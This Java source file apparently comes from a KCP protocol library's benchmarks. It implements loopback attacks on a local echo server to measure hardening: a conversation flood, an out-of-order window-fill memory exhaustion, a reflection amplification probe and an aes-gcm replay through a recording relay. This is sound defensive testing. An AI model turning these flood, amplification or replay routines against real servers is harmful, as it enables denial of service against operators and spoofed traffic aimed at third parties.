package io.github.kcp.benchmarks.attack;

import java.io.IOException;
import java.net.InetAddress;
import java.net.InetSocketAddress;
import java.nio.ByteBuffer;
import java.nio.channels.DatagramChannel;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Collections;
import java.util.HashMap;
import java.util.List;
import java.util.Locale;
import java.util.Map;
import java.util.concurrent.CompletableFuture;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;

import io.github.kcp.core.connection.KcpConfig;
import io.github.kcp.core.crypto.PacketCipher;
import io.github.kcp.core.crypto.PacketCiphers;
import io.github.kcp.core.protocol.KcpCodec;
import io.github.kcp.core.transport.KcpClient;
import io.github.kcp.core.transport.KcpSession;

/**
 * The attacks of issue 9 against a running {@code kcp-tool echo-server}, on loopback only, for the before/after
 * figures of the hardening work. Not a test (it measures); run it from the test classpath:
 *
 * <pre>
 * java -cp "$CP" io.github.kcp.benchmarks.attack.HardeningProbe flood --port 9000
 * java -cp "$CP" io.github.kcp.benchmarks.attack.HardeningProbe window-fill --port 9000
 * java -cp "$CP" io.github.kcp.benchmarks.attack.HardeningProbe amplify --port 9000
 * java -cp "$CP" io.github.kcp.benchmarks.attack.HardeningProbe replay --port 9000 --key k --salt s
 * </pre>
 *
 * Each attack uses source addresses of 127.0.0.0/8 other than 127.0.0.1 for the attacker (Linux routes the whole
 * block to loopback), so the victim clients on 127.0.0.1 are another source address for the server.
 */
public final class HardeningProbe {

	/** kcp-tool's knobs (fast mode, as the kcp-go peer). */
	private static final KcpConfig FAST = KcpConfig.builder().nodelay(1, 10, 2, true).windowSize(1024, 1024).build();

	private static final int MSS = 1400 - KcpCodec.OVERHEAD;

	private final Map<String, String> flags;

	private final InetSocketAddress server;

	private HardeningProbe(Map<String, String> flags) {
		this.flags = flags;
		this.server = new InetSocketAddress(flag("host", "127.0.0.1"), Integer.parseInt(flag("port", "9000")));
	}

	public static void main(String[] args) throws Exception {
		Map<String, String> flags = new HashMap<>();
		for (int i = 1; i + 1 < args.length; i += 2) {
			flags.put(args[i].replaceFirst("^--", ""), args[i + 1]);
		}
		HardeningProbe probe = new HardeningProbe(flags);
		switch (args[0]) {
			case "flood" -> probe.flood();
			case "window-fill" -> probe.windowFill();
			case "amplify" -> probe.amplify();
			case "replay" -> probe.replay();
			default -> throw new IllegalArgumentException("flood | window-fill | amplify | replay");
		}
		System.exit(0);
	}

	private String flag(String name, String defaultValue) {
		return this.flags.getOrDefault(name, defaultValue);
	}

	// ---------------------------------------------------------------- flood

	/**
	 * 100,000 distinct conversations from one address (127.0.0.2) within about 1.5 s, while a live client (on
	 * 127.0.0.1, connected before) sends a small message every 10 ms; half a second in, a new client (127.0.0.1, or
	 * --new-client-host) sends one message. Prints how long until the new client got its echo and the live client's
	 * round-trip percentiles during the flood and the ten seconds after.
	 */
	private void flood() throws Exception {
		int convs = Integer.parseInt(flag("convs", "100000"));
		double seconds = Double.parseDouble(flag("seconds", "1.5"));
		InetAddress attacker = InetAddress.getByName(flag("flood-host", "127.0.0.2"));
		Echoes live = new Echoes(FAST, this.server, InetAddress.getByName("127.0.0.1"));
		live.roundTrip(Duration.ofSeconds(10));

		AtomicLong sent = new AtomicLong();
		AtomicLong floodEnd = new AtomicLong();
		long floodStart = System.nanoTime();
		Thread floodThread = new Thread(() -> {
			try (DatagramChannel channel = DatagramChannel.open()) {
				channel.bind(new InetSocketAddress(attacker, 0));
				ByteBuffer datagram = ByteBuffer.allocate(KcpCodec.OVERHEAD + 1);
				long spacing = (long) (seconds * 1e9 / convs);
				for (int conv = 1; conv <= convs; conv++) {
					long due = floodStart + conv * spacing;
					while (System.nanoTime() < due) {
						Thread.onSpinWait();
					}
					KcpCodec.writeHeader(datagram.array(), 0, conv, KcpCodec.CMD_PUSH, 0, 1024, 0, 0, 0, 1);
					datagram.clear();
					channel.send(datagram, this.server);
					sent.incrementAndGet();
				}
				floodEnd.set(System.nanoTime());
			}
			catch (IOException ex) {
				throw new IllegalStateException(ex);
			}
		}, "flood");
		List<Long> rtts = Collections.synchronizedList(new ArrayList<>());
		Thread liveThread = new Thread(() -> live.pace(Duration.ofMillis(10), Duration.ofMillis((long) (seconds * 1000)
				+ 10_000), rtts), "live");
		floodThread.start();
		liveThread.start();
		Thread.sleep(500);
		long newClientStart = System.nanoTime();
		long newClientDeadline = newClientStart
				+ TimeUnit.SECONDS.toNanos(Long.parseLong(flag("new-client-wait", "60")));
		InetAddress newClientHost = InetAddress.getByName(flag("new-client-host", "127.0.0.1"));
		// As a user would: a session that got no echo within 5 s is dropped and a new one tried.
		boolean served = false;
		int attempts = 0;
		while (!served && System.nanoTime() < newClientDeadline) {
			attempts++;
			try (Echoes newcomer = new Echoes(FAST, this.server, newClientHost)) {
				served = newcomer.roundTrip(Duration.ofNanos(
						Math.min(TimeUnit.SECONDS.toNanos(5), newClientDeadline - System.nanoTime())));
			}
		}
		long newClientMillis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - newClientStart);
		floodThread.join();
		long floodMillis = TimeUnit.NANOSECONDS.toMillis(floodEnd.get() - floodStart);
		liveThread.join();
		System.out.printf(Locale.ROOT, "flood: %d conversations from %s in %d ms%n", sent.get(),
				attacker.getHostAddress(), floodMillis);
		System.out.println((served ? "new client: echoed " + newClientMillis + " ms after it started (0.5 s into the flood)"
				: "new client: no echo within " + newClientMillis + " ms") + ", " + attempts + " session(s) tried");
		System.out.println("live client during the flood and 10 s after: " + percentiles(rtts) + ", "
				+ live.lost(rtts) + " of " + live.sent() + " echoes missing");
		live.close();
	}

	// ---------------------------------------------------------------- window fill

	/**
	 * Conversations that park a window of out-of-order data each (sn 1.., never sn 0, full-size segments), from
	 * --hosts source addresses; then an echo client checks the server is alive and serving.
	 */
	private void windowFill() throws Exception {
		int sessions = Integer.parseInt(flag("sessions", "1000"));
		int segments = Integer.parseInt(flag("segments", "512"));
		int hosts = Integer.parseInt(flag("hosts", "8"));
		// Paced, so that the server's socket buffer does not simply overflow: the data must arrive to be parked.
		long rate = Long.parseLong(flag("rate", "40000"));
		List<DatagramChannel> channels = new ArrayList<>();
		for (int h = 0; h < hosts; h++) {
			DatagramChannel channel = DatagramChannel.open();
			channel.bind(new InetSocketAddress(InetAddress.getByName("127.0.1." + (h + 1)), 0));
			channels.add(channel);
		}
		ByteBuffer datagram = ByteBuffer.allocate(KcpCodec.OVERHEAD + MSS);
		long start = System.nanoTime();
		long attempted = 0;
		long count = 0;
		// Round after round: one more out-of-order segment for every conversation, so all fill at once.
		for (int sn = 1; sn <= segments; sn++) {
			for (int session = 0; session < sessions; session++) {
				KcpCodec.writeHeader(datagram.array(), 0, 1_000_000 + session, KcpCodec.CMD_PUSH, 0, 1024, 0, sn, 0, MSS);
				datagram.clear();
				channels.get(session % hosts).send(datagram, this.server);
				attempted += MSS;
				if (++count % 100 == 0) {
					long ahead = start + count * 1_000_000_000L / rate - System.nanoTime();
					if (ahead > 0) {
						Thread.sleep(ahead / 1_000_000, (int) (ahead % 1_000_000));
					}
				}
			}
		}
		long fillMillis = TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - start);
		System.out.printf(Locale.ROOT, "window fill: %d conversations x %d out-of-order segments (%d MB) from %d "
				+ "addresses in %d ms%n", sessions, segments, attempted >> 20, hosts, fillMillis);
		int ok = 0;
		long checkStart = System.nanoTime();
		try (Echoes client = new Echoes(FAST, this.server, InetAddress.getByName("127.0.0.1"))) {
			for (int i = 0; i < 20; i++) {
				if (client.roundTrip(Duration.ofSeconds(3))) {
					ok++;
				}
			}
		}
		System.out.printf(Locale.ROOT, "after the fill: a new client got %d/20 echoes in %d ms%n", ok,
				TimeUnit.NANOSECONDS.toMillis(System.nanoTime() - checkStart));
		for (DatagramChannel channel : channels) {
			channel.close();
		}
	}

	// ---------------------------------------------------------------- amplification

	/**
	 * A "victim" socket sends --datagrams first datagrams of distinct conversations (as a spoofer would in its name)
	 * and never answers; prints the bytes it receives back per byte sent, until the server has been silent for 5 s.
	 */
	private void amplify() throws Exception {
		int count = Integer.parseInt(flag("datagrams", "100"));
		int payload = Integer.parseInt(flag("payload", "100"));
		try (DatagramChannel victim = DatagramChannel.open()) {
			victim.bind(new InetSocketAddress(InetAddress.getByName("127.0.0.3"), 0));
			victim.configureBlocking(false);
			ByteBuffer datagram = ByteBuffer.allocate(KcpCodec.OVERHEAD + payload);
			long sentBytes = 0;
			for (int conv = 1; conv <= count; conv++) {
				KcpCodec.writeHeader(datagram.array(), 0, 2_000_000 + conv, KcpCodec.CMD_PUSH, 0, 1024, 0, 0, 0,
						payload);
				datagram.clear();
				victim.send(datagram, this.server);
				sentBytes += datagram.capacity();
			}
			long receivedBytes = 0;
			long receivedDatagrams = 0;
			ByteBuffer in = ByteBuffer.allocate(65_536);
			long lastHeard = System.nanoTime();
			long start = lastHeard;
			long limit = TimeUnit.SECONDS.toNanos(Long.parseLong(flag("max-seconds", "90")));
			while (System.nanoTime() - lastHeard < TimeUnit.SECONDS.toNanos(5) && System.nanoTime() - start < limit) {
				in.clear();
				if (victim.receive(in) != null) {
					receivedBytes += in.position();
					receivedDatagrams++;
					lastHeard = System.nanoTime();
				}
				else {
					Thread.sleep(1);
				}
			}
			System.out.printf(Locale.ROOT, "amplification: sent %d datagrams (%d bytes) in a victim's name; it got "
					+ "%d datagrams (%d bytes) back over %d s: %.2fx the bytes, %.2fx the datagrams%n", count, sentBytes,
					receivedDatagrams, receivedBytes, TimeUnit.NANOSECONDS.toSeconds(lastHeard - start),
					(double) receivedBytes / sentBytes, (double) receivedDatagrams / count);
		}
	}

	// ---------------------------------------------------------------- replay

	/**
	 * An aes-gcm client talks to the server through a recording relay; then every datagram it sent is replayed, once
	 * from the relay's own address (the one the server knew the client by) and once from another address; prints how
	 * many datagrams the server sent back to each replayer.
	 */
	private void replay() throws Exception {
		PacketCipher cipher = PacketCiphers.create("aes-gcm", flag("key", "k").getBytes(StandardCharsets.UTF_8),
				flag("salt", "s").getBytes(StandardCharsets.UTF_8));
		List<byte[]> captured = Collections.synchronizedList(new ArrayList<>());
		try (DatagramChannel front = DatagramChannel.open(); DatagramChannel upstream = DatagramChannel.open()) {
			front.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
			upstream.bind(new InetSocketAddress(InetAddress.getLoopbackAddress(), 0));
			front.configureBlocking(false);
			upstream.configureBlocking(false);
			Map<String, InetSocketAddress> client = new ConcurrentHashMap<>();
			java.util.concurrent.atomic.AtomicBoolean running = new java.util.concurrent.atomic.AtomicBoolean(true);
			Thread toServer = pump(front, upstream, this.server, captured, client, true, running);
			Thread toClient = pump(upstream, front, null, null, client, false, running);
			try (Echoes talker = new Echoes(FAST, cipher, (InetSocketAddress) front.getLocalAddress(),
					InetAddress.getLoopbackAddress())) {
				for (int i = 0; i < Integer.parseInt(flag("messages", "100")); i++) {
					talker.roundTrip(Duration.ofSeconds(3));
				}
			}
			Thread.sleep(500);
			running.set(false);
			toServer.join();
			toClient.join();
			List<byte[]> recorded = new ArrayList<>(captured);
			long sameAddress = replayFrom(upstream, recorded);
			try (DatagramChannel other = DatagramChannel.open()) {
				other.bind(new InetSocketAddress(InetAddress.getByName("127.0.0.4"), 0));
				long otherAddress = replayFrom(other, recorded);
				System.out.printf(Locale.ROOT, "replay: %d captured aes-gcm datagrams replayed; replies drawn: %d from "
						+ "the client's own address, %d from another address%n", recorded.size(), sameAddress,
						otherAddress);
			}
		}
	}

	private long replayFrom(DatagramChannel channel, List<byte[]> recorded) throws Exception {
		channel.configureBlocking(false);
		ByteBuffer in = ByteBuffer.allocate(65_536);
		while (channel.receive(in) != null) {
			in.clear();
		}
		for (byte[] datagram : recorded) {
			channel.send(ByteBuffer.wrap(datagram), this.server);
		}
		long replies = 0;
		long until = System.nanoTime() + TimeUnit.SECONDS.toNanos(3);
		while (System.nanoTime() < until) {
			in.clear();
			if (channel.receive(in) != null) {
				replies++;
			}
			else {
				Thread.sleep(1);
			}
		}
		return replies;
	}

	private static Thread pump(DatagramChannel from, DatagramChannel to, InetSocketAddress target,
			List<byte[]> record, Map<String, InetSocketAddress> client, boolean fromClient,
			java.util.concurrent.atomic.AtomicBoolean running) {
		Thread thread = new Thread(() -> {
			ByteBuffer buffer = ByteBuffer.allocate(65_536);
			try {
				while (running.get()) {
					buffer.clear();
					InetSocketAddress sender = (InetSocketAddress) from.receive(buffer);
					if (sender == null) {
						Thread.sleep(1);
						continue;
					}
					buffer.flip();
					byte[] datagram = Arrays.copyOf(buffer.array(), buffer.limit());
					if (fromClient) {
						client.put("client", sender);
						record.add(datagram);
						to.send(ByteBuffer.wrap(datagram), target);
					}
					else if (client.get("client") != null) {
						to.send(ByteBuffer.wrap(datagram), client.get("client"));
					}
				}
			}
			catch (IOException | InterruptedException ex) {
				// closed
			}
		}, fromClient ? "relay-up" : "relay-down");
		thread.setDaemon(true);
		thread.start();
		return thread;
	}

	// ---------------------------------------------------------------- support

	static String percentiles(List<Long> rttNanos) {
		List<Long> sorted = new ArrayList<>(rttNanos);
		Collections.sort(sorted);
		if (sorted.isEmpty()) {
			return "no echoes";
		}
		return String.format(Locale.ROOT, "p50 %.1f ms, p99 %.1f ms, max %.1f ms (%d echoes)",
				sorted.get(sorted.size() / 2) / 1e6, sorted.get(Math.min(sorted.size() - 1, sorted.size() * 99 / 100)) / 1e6,
				sorted.get(sorted.size() - 1) / 1e6, sorted.size());
	}

	/** A client session that sends numbered messages and times their echoes. */
	private static final class Echoes implements AutoCloseable {

		private final KcpSession session;

		private final Map<Long, CompletableFuture<Long>> waiting = new ConcurrentHashMap<>();

		private final AtomicLong next = new AtomicLong();

		Echoes(KcpConfig config, InetSocketAddress server, InetAddress local) {
			this(config, null, server, local);
		}

		Echoes(KcpConfig config, PacketCipher cipher, InetSocketAddress server, InetAddress local) {
			this.session = KcpClient.builder()
				.config(config)
				.cipher(cipher)
				.localAddress(new InetSocketAddress(local, 0))
				.handler((s, message) -> {
					long index = ByteBuffer.wrap(message).getLong();
					CompletableFuture<Long> echo = this.waiting.remove(index);
					if (echo != null) {
						echo.complete(System.nanoTime());
					}
				})
				.connect(server);
		}

		/** Sends one message; whether its echo came within {@code timeout}. */
		boolean roundTrip(Duration timeout) {
			CompletableFuture<Long> echo = send();
			try {
				echo.get(timeout.toMillis(), TimeUnit.MILLISECONDS);
				return true;
			}
			catch (Exception ex) {
				return false;
			}
		}

		private CompletableFuture<Long> send() {
			long index = this.next.getAndIncrement();
			CompletableFuture<Long> echo = new CompletableFuture<>();
			this.waiting.put(index, echo);
			ByteBuffer message = ByteBuffer.allocate(64).putLong(index);
			this.session.send(message.array());
			return echo;
		}

		/** Sends one message every {@code period} for {@code total}, recording each round trip as it completes. */
		void pace(Duration period, Duration total, List<Long> rtts) {
			long end = System.nanoTime() + total.toNanos();
			while (System.nanoTime() < end) {
				long sentAt = System.nanoTime();
				send().thenAccept((receivedAt) -> rtts.add(receivedAt - sentAt));
				try {
					Thread.sleep(period.toMillis());
				}
				catch (InterruptedException ex) {
					return;
				}
			}
			// Give the last ones time to come back.
			try {
				Thread.sleep(2000);
			}
			catch (InterruptedException ex) {
				Thread.currentThread().interrupt();
			}
		}

		long sent() {
			return this.next.get();
		}

		long lost(List<Long> rtts) {
			return this.next.get() - rtts.size() - 1;
		}

		@Override
		public void close() {
			this.session.abort();
		}

	}

}
